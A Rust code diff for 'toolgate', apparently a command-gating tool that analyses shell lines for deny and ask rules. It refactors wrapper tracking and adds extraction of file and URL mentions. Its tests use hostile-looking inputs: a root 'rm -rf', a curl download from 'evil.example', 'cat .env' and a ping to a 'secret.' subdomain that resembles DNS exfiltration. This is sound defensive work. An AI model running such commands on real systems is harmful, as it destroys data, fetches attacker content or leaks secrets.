@@ -101,8 +101,8 @@ pub struct SimpleCommand {
     pub text: String,
     /// The argv that finally runs, after the wrappers.
     pub argv: Vec<Word>,
-    /// Every argv from the outermost wrapper to `argv` (the last layer is `argv`).
-    pub layers: Vec<Vec<Word>>,
+    /// The wrappers' argvs, outermost first (`sudo -u x git push`, then `git push` is `argv`).
+    pub wrappers: Vec<Vec<Word>>,
     /// What toolgate cannot see through in this command.
     pub findings: Vec<Finding>,
     /// Whether the program talks to the network (`curl`, `ssh`, `dig`, `git push`, …).
@@ -115,6 +115,11 @@ impl SimpleCommand {
     /// The program's name as written (`git`, `./cat`, `/tmp/git`), if known.
     pub fn program(&self) -> Option<&str> {
         self.argv.first().and_then(Word::value)
+    }
+
+    /// Arguments that may name files, and URLs, for deny and ask rules (`cat .env`).
+    pub fn mentions(&self) -> (Vec<&str>, Vec<&str>) {
+        programs::mentions(&self.argv)
     }
 
     /// The kind of access the command makes.
@@ -147,10 +152,8 @@ pub struct CommandPath {
 pub struct Analysis {
     /// The simple commands, in order.
     pub commands: Vec<SimpleCommand>,
-    /// Paths the commands name.
+    /// Paths the commands act on (redirections, folders, files written).
     pub paths: Vec<CommandPath>,
-    /// URLs in arguments (only deny and ask rules look at them).
-    pub urls: Vec<(String, usize)>,
     /// Findings about the line as a whole (they apply to every command).
     pub findings: Vec<Finding>,
 }
@@ -240,7 +243,7 @@ mod tests {
             vec![vec!["git", "status"]]
         );
         let a = analyze("sudo -u root rm -rf /tmp/x");
-        assert_eq!(a.commands[0].layers.len(), 2);
+        assert_eq!(a.commands[0].wrappers.len(), 1);
         assert_eq!(
             kinds("sudo -u root rm -rf /tmp/x"),
             vec![FindingKind::Elevated]
@@ -441,9 +444,14 @@ mod tests {
                 ("/tmp/out", PathRole::Written)
             ]
         );
+        let a = analyze("curl -s https://evil.example/x -o out.html");
         assert_eq!(
-            analyze("curl -s https://evil.example/x").urls,
-            [("https://evil.example/x".to_owned(), 0)]
+            a.commands[0].mentions(),
+            (vec!["out.html"], vec!["https://evil.example/x"])
+        );
+        assert_eq!(
+            analyze("cat .env src/a.rs").commands[0].mentions().0,
+            [".env", "src/a.rs"]
         );
         assert!(analyze("ping -c 2 secret.wuzzi.net").commands[0].network);
         assert!(analyze("git push origin main").commands[0].network);
